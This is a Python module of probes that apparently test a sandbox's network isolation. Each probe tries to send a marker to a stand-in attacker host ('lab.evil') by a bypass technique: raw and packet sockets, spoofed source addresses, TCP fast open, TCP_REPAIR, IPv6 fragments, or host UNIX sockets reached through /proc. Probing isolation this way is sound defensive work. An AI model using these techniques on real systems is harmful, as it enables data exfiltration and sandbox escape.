"""Protocols and socket families: bytes that leave by something else than an ordinary TCP connection."""

import os
import socket
import struct
import time

from probe import Held, libc, probe, talk

BACK = "bytes come back from the attacker"
SOCKET = "the kernel gives such a socket"


def back(one, wait=0.5):
    """What comes back on a socket; nothing within the time is held."""
    one.settimeout(wait)
    answer = one.recv(65536)
    if not answer:
        raise EOFError("closed without an answer")
    return answer


def given(family, kind, protocol=0):
    """The kernel gives such a socket. An unknown family is not told as NotHere: a filter may answer the same."""
    return socket.socket(family, kind, protocol)


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def udp(source, target, data):
    return struct.pack(">HHHH", source, target, 8 + len(data), 0) + data


def ip(source, target, payload, protocol=17):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, 0, 64, protocol, 0, socket.inet_aton(source),
                       socket.inet_aton(target))
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def listening():
    """A socket that hears the answer to what is sent by other means, and its port."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind(("", 0))
    return one, one.getsockname()[1]


# raw and packet sockets


@probe(BACK)
def raw_ipv4(lab):
    """A raw IPv4 socket, with a UDP header made by hand."""
    hears, port = listening()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    raw.sendto(udp(port, 4444, lab.mark().encode()), (lab.evil, 0))
    back(hears)


@probe("the datagram arrives at the attacker")
def raw_ipv6(lab):
    """A raw IPv6 socket; the kernel fills the checksum in."""
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
    raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_CHECKSUM, 6)
    raw.sendto(udp(4000, 4444, lab.mark().encode()), (lab.evil6, 0))
    back(raw)


@probe(BACK)
def own_ip_header(lab):
    """IPPROTO_RAW: the whole IP header by hand, with the source address of a permitted host."""
    hears, port = listening()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(ip(lab.allowed, lab.evil, udp(port, 4444, lab.mark().encode())), (lab.evil, 0))
    back(hears)


@probe(SOCKET)
def raw_with_flags(lab):
    """A raw socket whose type carries SOCK_NONBLOCK and SOCK_CLOEXEC: filters that compare the whole word miss it."""
    given(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC, 255)


@probe("the message arrives at the attacker's machine, which echoes it")
def raw_icmp(lab):
    """A raw ICMP socket: a message in the payload of an echo request."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    body = lab.mark().encode().ljust(64, b".")
    head = struct.pack(">BBHHH", 8, 0, 0, 77, 1)
    raw.sendto(head[:2] + struct.pack(">H", checksum(head + body)) + head[4:] + body, (lab.evil, 0))
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        answer = back(raw)
        if answer[20:21] == b"\0" and lab.marker.encode() in answer:
            return
    raise Held("no echo")


@probe("the message arrives at the attacker's machine, which echoes it")
def ping_socket(lab):
    """An unprivileged ICMP socket (ping): a message in the payload."""
    ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    ping.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + lab.mark().encode(), (lab.evil, 0))
    if lab.marker.encode() not in back(ping):
        raise Held("another answer")


@probe("the message arrives at the attacker's machine, which echoes it")
def ping_socket_of_ipv6(lab):
    """An unprivileged ICMPv6 socket: a message in the payload."""
    ping = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    ping.sendto(struct.pack(">BBHHH", 128, 0, 0, 0, 1) + lab.mark().encode(), (lab.evil6, 0))
    if lab.marker.encode() not in back(ping):
        raise Held("another answer")


@probe("a permitted host's machine echoes it")
def ping_of_a_permitted_host(lab):
    """An ICMP message to a host that only a TCP rule names."""
    ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    ping.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + lab.mark().encode(), ("allowed.test", 0))
    if lab.marker.encode() not in back(ping):
        raise Held("another answer")


@probe(BACK)
def packet_socket(lab):
    """AF_PACKET: a frame put onto the interface below every rule of the IP layer."""
    hears, port = listening()
    packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    frame = bytes(12) + b"\x08\x00" + ip("198.51.100.9", lab.evil, udp(port, 4444, lab.mark().encode()))
    packet.sendto(frame, ("lo", 0x0800))
    back(hears)


@probe("it sees what others send")
def packet_sniffer(lab):
    """The obsolete SOCK_PACKET type of AF_INET, which the kernel turns into a packet socket, listens."""
    sniffer = socket.socket(socket.AF_INET, 10, socket.htons(3))
    sniffer.bind(("lo", 0)) if sniffer.family == socket.AF_PACKET else None
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"overheard", (lab.allowed, 5000))
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        if b"overheard" in back(sniffer):
            return
    raise Held("nothing heard")


# other families


@probe(SOCKET)
def vsock(lab):
    """AF_VSOCK: a socket to the hypervisor, past every network namespace."""
    given(socket.AF_VSOCK, socket.SOCK_STREAM)


@probe("the device answers with the machine's number")
def vsock_device(lab):
    """/dev/vsock tells this machine's address for sockets to the hypervisor."""
    import fcntl

    with open("/dev/vsock", "rb") as device:
        fcntl.ioctl(device, 0x7B9, bytearray(4))


@probe(SOCKET)
def xdp_socket(lab):
    """AF_XDP: frames that pass the network stack by."""
    given(44, socket.SOCK_RAW)


@probe(SOCKET)
def rare_families(lab):
    """Every family that is neither UNIX, IPv4, IPv6 nor netlink, with each type."""
    for family in range(3, 64):
        if family in (socket.AF_INET6, socket.AF_NETLINK):
            continue
        for kind in (1, 2, 3, 4, 5):
            try:
                given(family, kind).close()
            except OSError:
                continue
            return
    raise Held("none is given")


@probe(BACK)
def mptcp(lab):
    """Multipath TCP, which filters of TCP do not know."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as one:
        one.settimeout(1)
        one.connect((lab.evil, 443))
        one.sendall(lab.mark().encode())
        back(one)


@probe("the datagram arrives at the attacker")
def udp_lite(lab):
    """UDP-Lite, which filters of UDP do not know."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    one.sendto(lab.mark().encode(), (lab.evil, 4444))
    back(one)


# netlink


def netlink(protocol):
    one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
    one.settimeout(0.5)
    one.bind((0, 0))
    return one


def asked(one, kind, body, flags=0x301):
    """Sends one request and returns the answer; an error in the answer is an OSError."""
    one.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
    answer = one.recv(65536)
    if struct.unpack_from("=H", answer, 4)[0] == 2 and (code := struct.unpack_from("=i", answer, 16)[0]):
        raise OSError(-code, os.strerror(-code))
    return answer


@probe("the kernel lists the firewall's tables")
def netlink_netfilter(lab):
    """NETLINK_NETFILTER: the language in which the firewall is read and changed."""
    asked(netlink(12), (10 << 8) | 1, struct.pack("=BBH", 0, 0, 0))


@probe("the kernel lists sockets")
def netlink_sockets(lab):
    """NETLINK_SOCK_DIAG lists every TCP socket with its addresses, and can end connections."""
    asked(netlink(4), 20, struct.pack("=BBBBI48x", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 0xFFFFFFFF))


@probe(SOCKET)
def netlink_devices(lab):
    """NETLINK_KOBJECT_UEVENT hears of devices, and is how programs of the host are made to act on them."""
    socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 15).bind((0, 1))


@probe(SOCKET)
def netlink_audit(lab):
    """NETLINK_AUDIT reads and changes how the machine is audited."""
    netlink(9)


@probe("the kernel lists the generic families")
def netlink_generic(lab):
    """NETLINK_GENERIC opens on dozens of kernel subsystems."""
    asked(netlink(16), 16, struct.pack("=BBH", 3, 1, 0))


@probe("the kernel lists the policies")
def netlink_ipsec(lab):
    """NETLINK_XFRM: tunnels made by the kernel itself."""
    asked(netlink(6), 0x15, bytes(64))


@probe(SOCKET)
def netlink_connector(lab):
    """NETLINK_CONNECTOR tells of every process that starts on the machine."""
    socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 11).bind((0, 1))


# TCP in unusual ways

FASTOPEN = 0x20000000


@probe(BACK)
def fast_open_sendto(lab):
    """TCP fast open: sendto(2) with MSG_FASTOPEN connects without connect(2)."""
    one = socket.socket()
    one.sendto(lab.mark().encode(), FASTOPEN, (lab.evil, 8080))
    back(one)


@probe(BACK)
def fast_open_sendmsg(lab):
    """TCP fast open by sendmsg(2), where the flag and the address lie in memory and in a register apart."""
    one = socket.socket()
    one.sendmsg([lab.mark().encode()], [], FASTOPEN, (lab.evil, 8080))
    back(one)


@probe(BACK)
def fast_open_sendmmsg(lab):
    """TCP fast open by sendmmsg(2), the call that is forgotten."""
    import ctypes

    one = socket.socket()
    data = ctypes.create_string_buffer(lab.mark().encode())
    name = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 8080) + socket.inet_aton(lab.evil) + bytes(8)
    to = ctypes.create_string_buffer(name, 16)
    part = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(data), len(data)), 16)
    head = struct.pack("=QI4xQQQQi4xI4x", ctypes.addressof(to), 16, ctypes.addressof(part), 1, 0, 0, 0, 0)
    message = ctypes.create_string_buffer(head, 64)
    libc.sendmmsg.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]
    if libc.sendmmsg(one.fileno(), message, 1, FASTOPEN) < 1:
        raise OSError(ctypes.get_errno(), "sendmmsg")
    back(one)


@probe(BACK)
def fast_open_option(lab):
    """TCP_FASTOPEN_CONNECT: connect(2) does nothing, and the first write connects."""
    one = socket.socket()
    one.setsockopt(socket.IPPROTO_TCP, 30, 1)
    one.settimeout(1)
    one.connect((lab.evil, 8443))
    one.sendall(lab.mark().encode())
    back(one)


@probe("the kernel lets a connection stand without a handshake")
def connection_repair(lab):
    """TCP_REPAIR: a socket is put into the connected state, and no packet that a firewall could judge was sent."""
    one = socket.socket()
    one.setsockopt(socket.IPPROTO_TCP, 19, 1)
    one.connect((lab.evil, 80))


@probe(BACK)
def connected_twice(lab):
    """A connection to a permitted host is undone by AF_UNSPEC; the same socket then connects to the attacker."""
    one = socket.create_connection((socket.gethostbyname("allowed.test"), 7000), 2)
    one.sendall(b"hello")
    back(one, 2)
    libc.connect(one.fileno(), bytes(16), 16)
    one.connect((lab.evil, 8080))
    one.sendall(lab.mark().encode())
    back(one)


@probe(BACK)
def bound_to_a_device(lab):
    """SO_BINDTODEVICE: past the routes, out of one interface."""
    for _, name in socket.if_nameindex():
        with socket.socket() as one:
            one.settimeout(1)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name.encode())
            one.connect((lab.evil, 53))
            one.sendall(lab.mark().encode())
            return back(one)


@probe(BACK)
def without_routes(lab):
    """SO_DONTROUTE: a neighbour is assumed where routes lead elsewhere."""
    with socket.socket() as one:
        one.settimeout(1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
        one.connect((lab.evil, 8080))
        one.sendall(lab.mark().encode())
        back(one)


@probe(BACK)
def marked(lab):
    """SO_MARK: a mark for which routes and firewalls make exceptions."""
    with socket.socket() as one:
        one.settimeout(1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)
        one.connect((lab.evil, 8080))
        one.sendall(lab.mark().encode())
        back(one)


@probe(BACK)
def transparent(lab):
    """IP_TRANSPARENT: speaks from an address that is not the machine's, as proxies do."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.IPPROTO_IP, 19, 1)
        one.bind(("198.51.100.7", 0))
        one.sendto(lab.mark().encode(), (lab.evil, 4444))
        back(one)


@probe(BACK)
def freely_bound(lab):
    """IP_FREEBIND: speaks from the address of a permitted host."""
    with socket.socket() as one:
        one.settimeout(1)
        one.setsockopt(socket.IPPROTO_IP, 15, 1)
        one.bind((socket.gethostbyname("allowed.test"), 0))
        one.connect((lab.evil, 22))
        one.sendall(lab.mark().encode())
        back(one)


@probe(BACK)
def source_in_loopback(lab):
    """A connection that comes from another loopback address than 127.0.0.1."""
    with socket.socket() as one:
        one.settimeout(1)
        one.bind(("127.9.9.9", 0))
        one.connect((lab.evil, 3128))
        one.sendall(lab.mark().encode())
        back(one)


@probe(BACK)
def low_source_port(lab):
    """A connection from port 20, which careless firewalls take for the data of a file transfer."""
    with socket.socket() as one:
        one.settimeout(1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.bind(("", 20))
        one.connect((lab.evil, 853))
        one.sendall(lab.mark().encode())
        back(one)


@probe(BACK)
def source_route(lab):
    """IP_OPTIONS with a loose source route: to a permitted host first, and from there to the attacker."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    first = socket.inet_aton(socket.gethostbyname("udp.test"))
    one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + first + b"\0")
    one.sendto(lab.mark().encode(), (lab.evil, 4444))
    back(one)


@probe(BACK)
def record_route(lab):
    """IP_OPTIONS with a record route: a longer header, in which careless filters misread the ports."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x07\x27\x04" + bytes(36) + b"\0")
    one.sendto(lab.mark().encode(), (lab.evil, 443))
    back(one)


# UDP


@probe(BACK)
def datagram(lab):
    """A datagram to the attacker from a socket that is not connected."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.sendto(lab.mark().encode(), (lab.evil, 4444))
    back(one)


@probe(BACK)
def connected_datagram(lab):
    """A datagram to the attacker from a connected socket, by write(2)."""
    talk(lab.evil, 123, lab.mark(), socket.SOCK_DGRAM, wait=0.5)


@probe("any of them arrives at the attacker")
def datagram_blast(lab):
    """Thousands of datagrams to every port of the attacker, to win a race or to pass a bounded table."""
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
    for turn in range(3000):
        try:
            sockets[turn % 8].sendto(lab.mark().encode(), (lab.evil, (53, 123, 443, 853, 4444, 5353)[turn % 6]))
        except OSError as error:
            last = error
    for one in sockets:
        one.settimeout(0.05)
        for _ in range(5):
            try:
                if lab.marker.encode() in one.recv(100):  # not what answers questions on every address
                    return
            except OSError as error:
                last = error
    raise last


@probe(BACK)
def datagram_to_another(lab):
    """A socket that is connected to a permitted host; sendto(2) then names the attacker."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.connect(("udp.test", 5000))
    one.sendto(lab.mark().encode(), (lab.evil, 4444))
    one.connect((lab.evil, 4444))
    back(one)


@probe(BACK)
def datagram_with_an_interface(lab):
    """IP_PKTINFO: each datagram names its own interface and source."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    choice = struct.pack("=i4s4s", socket.if_nametoindex("lo"), bytes(4), bytes(4))
    one.sendmsg([lab.mark().encode()], [(socket.IPPROTO_IP, 8, choice)], 0, (lab.evil, 853))
    back(one)


@probe(BACK)
def quic(lab):
    """A QUIC initial packet to the attacker."""
    head = b"\xc3" + struct.pack(">I", 1) + b"\x08" + os.urandom(8) + b"\x00\x00\x44\xb0"
    talk(lab.evil, 443, (head + lab.mark().encode()).ljust(1200, b"\0"), socket.SOCK_DGRAM, wait=0.5)


@probe("bytes come back from that port")
def quic_to_a_permitted_host(lab):
    """QUIC to a host of which only TCP is permitted, on the same port."""
    head = b"\xc3" + struct.pack(">I", 1) + b"\x08" + os.urandom(8) + b"\x00\x00\x44\xb0"
    data = (head + lab.mark().encode()).ljust(1200, b"\0")
    talk("allowed.test", 443, data, socket.SOCK_DGRAM, socket.AF_INET, wait=0.5)


@probe("bytes come back from that port")
def stream_to_a_datagram_port(lab):
    """TCP to a host of which only UDP is permitted, on the same port."""
    talk("udp.test", 5000, lab.mark(), wait=0.5)


@probe("it arrives at whoever listens")
def broadcast(lab):
    """A broadcast on every interface."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
    one.sendto(lab.mark().encode(), ("255.255.255.255", 5354))
    back(one)


@probe("it arrives at the group")
def multicast(lab):
    """A datagram to a multicast group."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    way = struct.pack("4s4si", bytes(4), bytes(4), socket.if_nametoindex("lo"))
    one.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, way)
    one.sendto(lab.mark().encode(), ("239.66.66.66", 5354))
    back(one)


# IPv6


@probe(BACK)
def ipv6(lab):
    """A connection over IPv6, where only IPv4 is filtered."""
    talk(lab.evil6, 443, lab.mark())


@probe(BACK)
def ipv6_datagram(lab):
    """A datagram over IPv6, where only IPv4 is filtered."""
    talk(lab.evil6, 123, lab.mark(), socket.SOCK_DGRAM, wait=0.5)


@probe("bytes come back from a link-local address")
def link_local(lab):
    """A link-local address of IPv6, for which no route is needed."""
    talk("fe80::66%lo", 7002, lab.mark())


@probe(BACK)
def fragments(lab):
    """A datagram in fragments of IPv6: only the first one carries the ports that a filter reads."""
    one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    one.setsockopt(socket.IPPROTO_IPV6, 24, 1280)
    one.sendto(lab.mark().encode().ljust(6000, b"."), (lab.evil6, 4444))
    back(one)


@probe(BACK)
def destination_options(lab):
    """IPv6 destination options before UDP: a filter that reads at a fixed place reads something else."""
    one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
    one.sendto(lab.mark().encode(), (lab.evil6, 4444))
    back(one)


@probe(BACK)
def hop_by_hop_options(lab):
    """IPv6 hop-by-hop options, the other header that may stand before UDP."""
    one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
    one.sendto(lab.mark().encode(), (lab.evil6, 4444))
    back(one)


# UNIX sockets


def unix(path, data, kind=socket.SOCK_STREAM):
    one = socket.socket(socket.AF_UNIX, kind)
    one.connect(path)
    one.sendall(data.encode())
    back(one)


@probe("a service of the host answers")
def abstract_socket(lab):
    """An abstract UNIX socket of the host, which has no file."""
    unix("\0escape-abstract", lab.mark())


@probe("a service of the host answers")
def path_socket(lab):
    """A UNIX socket of the host, by its path."""
    unix(os.path.join(lab.run, "daemon.sock"), lab.mark())


@probe("a service of the host takes the message")
def path_datagram(lab):
    """A UNIX datagram socket of the host (as of its log): sendto(2), without connect(2)."""
    one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(lab.mark().encode(), os.path.join(lab.run, "log.sock"))


@probe("a service of the host answers")
def path_socket_by_link(lab):
    """A symbolic link in the working directory that leads to a UNIX socket of the host."""
    os.symlink(os.path.join(lab.run, "daemon.sock"), "link.sock")
    unix("link.sock", lab.mark())


@probe("a service of the host answers")
def path_socket_by_descriptor(lab):
    """/proc/self/fd of a directory that was left open, and from there the path of the socket."""
    unix("/proc/self/fd/11" + os.path.join(lab.run, "daemon.sock"), lab.mark())


@probe("a service of the host answers")
def path_socket_by_root(lab):
    """/proc/PID/root of every process that is seen, and below it the path of the socket."""
    last = Held("no process")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.path.samefile(f"/proc/{pid}/root", "/") and pid != "1":
                continue
            return unix(f"/proc/{pid}/root" + os.path.join(lab.run, "daemon.sock"), lab.mark())
        except OSError as error:
            last = error
    raise last
